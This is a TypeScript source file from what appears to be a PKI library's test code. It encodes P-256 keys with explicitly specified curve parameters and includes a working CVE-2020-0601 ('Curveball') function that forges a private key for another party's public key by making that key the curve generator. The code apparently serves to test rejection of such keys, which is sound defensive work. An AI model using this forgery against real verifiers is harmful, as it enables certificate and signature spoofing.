import { createPrivateKey, type KeyObject } from "node:crypto";
import {
  bitString,
  type DerNode,
  encode,
  explicit,
  integer,
  objectIdentifier,
  octetString,
  sequence,
} from "../../pki/der/writer.ts";

/*
 * Keys that describe their curve. RFC 5480 §2.1.1: "specifiedCurve MUST NOT be used in PKIX", for whoever may choose the
 * curve may choose its generator, too.
 */

/** NIST SP 800-186 §3.2.1.3. */
const p256 = {
  p: "ffffffff00000001000000000000000000000000ffffffffffffffffffffffff",
  a: "ffffffff00000001000000000000000000000000fffffffffffffffffffffffc",
  b: "5ac635d8aa3a93e7b3ebbd55769886bc651d06b0cc53b0f63bce3c3e27d2604b",
  n: "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
  generator:
    "046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296" +
    "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5",
} as const;

const prime256v1 = encode(objectIdentifier("1.2.840.10045.3.1.7"));
/** An uncompressed point: 04, x, y. */
const pointLength = 65;

/** The same key on the same curve, with P-256 written out. @param publicKeyInfo SubjectPublicKeyInfo of a P-256 key */
export function explicitP256(publicKeyInfo: Uint8Array): Uint8Array {
  const generator = Buffer.from(p256.generator, "hex");
  return encode(sequence(algorithm(generator), bitString(publicKeyInfo.subarray(-pointLength))));
}

/**
 * CVE-2020-0601 ("Curveball"): a private key for somebody else's public point. On P-256 with that point Q as the
 * generator, Q = 1·Q, so the private key is 1. Undefined for a key on another curve.
 * @param publicKeyInfo SubjectPublicKeyInfo of the key to pass for
 */
export function keyOnACurveOfOnesOwn(publicKeyInfo: Uint8Array): KeyObject | undefined {
  if (!Buffer.from(publicKeyInfo).includes(prime256v1)) return undefined;
  const point = publicKeyInfo.subarray(-pointLength);
  const one = Buffer.alloc(32);
  one[31] = 1;
  const ecPrivateKey = sequence(integer(1), octetString(one), explicit(1, bitString(point)));
  const der = encode(sequence(integer(0), algorithm(point), octetString(ecPrivateKey)));
  return createPrivateKey({ key: Buffer.from(der), format: "der", type: "pkcs8" });
}

/**
 * SEC 1 §C.2
 *     SpecifiedECDomain ::= SEQUENCE { version, fieldID, curve, base ECPoint, order, cofactor }
 */
function algorithm(generator: Uint8Array): DerNode {
  const hex = (text: string) => Buffer.from(text, "hex");
  const parameters = sequence(
    integer(1),
    sequence(objectIdentifier("1.2.840.10045.1.1"), integer(hex(p256.p))),
    sequence(octetString(hex(p256.a)), octetString(hex(p256.b))),
    octetString(generator),
    integer(hex(p256.n)),
    integer(1),
  );
  return sequence(objectIdentifier("1.2.840.10045.2.1"), parameters);
}
